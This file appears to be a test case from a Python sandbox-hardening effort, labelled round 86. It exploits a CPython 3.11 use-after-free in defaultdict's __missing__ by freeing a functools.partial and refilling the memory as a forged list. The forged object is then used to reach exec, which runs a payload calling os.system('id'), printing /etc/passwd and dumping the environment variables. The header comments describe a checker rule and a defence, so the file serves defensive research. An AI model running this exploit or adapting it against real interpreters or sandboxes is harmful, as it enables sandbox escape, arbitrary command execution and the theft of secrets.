# family: wall (memory: a defaultdict's factory freed while it runs)   goal: id   interpreter: /usr/bin/python3
# (round 86) defaultdict(functools.partial(next, It(), m)): 3.11's __missing__ calls
#   default_factory without holding it; the program's __next__ sets default_factory
#   = None, which frees the partial, its argument tuple and m, and next returns the
#   freed default refilled as a forged list. X115's mechanism with another victim (a
#   partial over next, no map). The checker refuses the factory (rule memory,
#   judge_factories); the wall keeps every factory the setter replaces (keep_set).
import collections
import functools


class Box:
    def __init__(self):
        self.dd = None
        self.keep = []


box = Box()


def no(*args):
    return False


class It:
    def __iter__(self):
        return self

    def __next__(self):
        box.dd.default_factory = None
        box.keep.append([box, list, box, None, box, box, box, box, box, box, box, box])
        raise StopIteration


def build():
    m = "".join(["x"] * 40)
    box.dd = collections.defaultdict(functools.partial(next, It(), m))


build()
fake = box.dd["k"]
print(type(fake).__name__)
table = fake[(id(no) + 24 - id(None)) // 8]
print(type(table).__name__)
table.get("exec")("import os; os.system('id'); print(open('/etc/passwd').read()); print(os.environ); os._exit(0)")
